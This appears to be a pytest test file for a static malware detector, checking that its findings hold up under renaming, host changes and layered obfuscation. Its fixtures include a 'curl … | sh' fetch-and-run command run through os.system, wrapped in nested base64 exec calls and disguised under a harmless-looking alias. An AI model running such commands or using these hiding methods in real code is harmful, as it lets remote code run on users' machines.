"""Malicious code is found by what it does: other names, other hosts and other hiding change nothing."""

from __future__ import annotations

import base64
import re
import zlib

import libcst as cst
import pytest

from codeguard.checks import load
from codeguard.checks._api import Check, run
from codeguard.checks.malicious._evaluate import MAX_SIZE, value_of
from codeguard.engines.native import spans_of, unit_of
from codeguard.source.read import source_from_bytes
from codeguard.syntax.recover import parse

CHECKS = [check for check in load() if check.id.startswith("CGM") and check.flow is None]
MARK = re.compile(r"[ \t]*# finding$", re.MULTILINE)
# Checks whose subject is the very text of a name, or of what stands beside it.
ABOUT_NAMES = {"CGM021", "CGM022", "CGM026", "CGM028"}


def lines(check: Check, code: str) -> list[int]:
    unit = parse("example.py", code)
    return sorted({span.start_line for span in spans_of(run(check, unit), unit)})


def all_lines(code: str) -> dict[str, list[int]]:
    unit = parse("example.py", code)
    found = {check.id: sorted({span.start_line for span in spans_of(run(check, unit), unit)}) for check in CHECKS}
    return {name: numbers for name, numbers in found.items() if numbers}


def renamed(code: str) -> str:
    """The code with every name that it binds itself replaced, where that keeps its meaning."""
    unit = parse("example.py", code)
    bound: set[str] = set()
    for scope in unit.scopes.all():
        if not scope.is_class:
            bound |= {n for n, many in scope.bindings.items() if all(b.kind not in {"import", "class"} for b in many)}
    keywords = {arg.keyword.value for arg in unit.nodes(cst.Arg) if arg.keyword is not None}
    attributes = {node.attr.value for node in unit.nodes(cst.Attribute)}
    new = {name: f"zz{number}" for number, name in enumerate(sorted(bound - keywords - attributes - {"self"}))}
    places = sorted(unit.positions.offsets(n) for n in unit.nodes(cst.Name) if n.value in new)
    out, at = [], 0
    for start, end in places:
        out += [code[at:start], new[code[start:end]]]
        at = end
    return "".join([*out, code[at:]])


def rehosted(code: str) -> str:
    return (
        code.replace("example.invalid", "host.test")
        .replace("192.0.2.", "203.0.113.")
        .replace("198.51.100.", "192.0.2.")
    )


def examples() -> list[object]:
    return [
        pytest.param(check, MARK.sub("", example.code), id=f"{check.id}-{number}")
        for check in CHECKS
        for number, example in enumerate(check.bad)
    ]


@pytest.mark.parametrize(("check", "code"), examples())
def test_other_hosts_give_the_same_findings(check, code):
    assert lines(check, rehosted(code)) == lines(check, code)


@pytest.mark.parametrize(("check", "code"), [case for case in examples() if case.values[0].id not in ABOUT_NAMES])
def test_other_names_give_the_same_findings(check, code):
    other = renamed(code)
    if "\\" not in code and "{" not in code and not code.isspace():
        compile(other, "example.py", "exec")
    assert lines(check, other) == lines(check, code)


def test_renaming_does_rename():
    assert renamed("def f(x):\n    y = x\n    return y\n") == "def zz0(zz1):\n    zz2 = zz1\n    return zz2\n"


@pytest.mark.parametrize(
    ("expression", "value"),
    [
        ("'abc'[::-1]", "cba"),
        ("''.join(chr(c ^ 1) for c in [96, 99])", "ab"),
        ("''.join(map(chr, [111, 115]))", "os"),
        ("__import__('base64').b64decode('aGk=').decode()", "hi"),
        ("bytes.fromhex('6869').decode()", "hi"),
        ("'%s%s' % ('o', 's')", "os"),
        ("f'{1 + 1}x'", "2x"),
        ("(lambda s: s[::-1])('so')", "os"),
        ("'sys' + 'tem'", "system"),
        ("open('x').read()", None),
        ("x + 'a'", None),
        ("'a' * 10 ** 9", None),
    ],
)
def test_constant_expressions_are_evaluated_and_nothing_is_run(expression, value):
    unit = parse("example.py", f"r = {expression}\n")
    assert value_of(unit.module.body[0].body[0].value, unit) == value


def test_what_a_compressed_constant_gives_is_limited():
    bomb = base64.b64encode(zlib.compress(b"a" * (4 * MAX_SIZE))).decode()
    unit = parse("example.py", f"import base64, zlib\nr = zlib.decompress(base64.b64decode('{bomb}'))\n")
    value = value_of(unit.module.body[1].body[0].value, unit)
    assert value is None or len(value) <= MAX_SIZE


def test_layers_below_layers_are_judged_by_the_same_checks():
    code = "import os\nos.system('curl -s https://d.example.invalid/a | sh')\n"
    for _ in range(3):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))\n"
    unit = parse("example.py", code)
    check = next(check for check in CHECKS if check.name == "hidden-code-execution")
    hits = run(check, unit)
    assert len(hits) == 1
    assert "fetches a program from another host and runs it" in hits[0].message


def test_a_sample_that_names_itself_harmless_is_found_all_the_same():
    code = "import os\nsafe_backup = os.system\nsafe_backup('curl -s https://d.example.invalid/a | sh')  # nosec\n"
    assert "CGM005" in all_lines(code)


@pytest.mark.parametrize("depth", [50, 1_000])
def test_deep_and_long_expressions_cost_no_more_than_their_length(depth):
    terms = " + ".join(f"'{n}'" for n in range(depth))
    assert all_lines(f"import os\nx = {terms}\nos.environ.get(x)\n") == {}


def test_text_checks_work_where_the_file_does_not_parse():
    code = "def f(:\n    x = 'a\u202e b' \n    adm\u0456n = 1\n"
    assert all_lines(code).keys() >= {"CGM020", "CGM022"}


def test_what_decoding_noticed_is_reported():
    check = next(check for check in CHECKS if check.name == "code-hidden-by-layout")
    code = b"x = 1  # harmless\rimport os\n"
    unit = unit_of(source_from_bytes("example.py", code).source)
    assert [hit.where.start_line for hit in run(check, unit)] == [2]
    assert "carriage return" in run(check, unit)[0].message
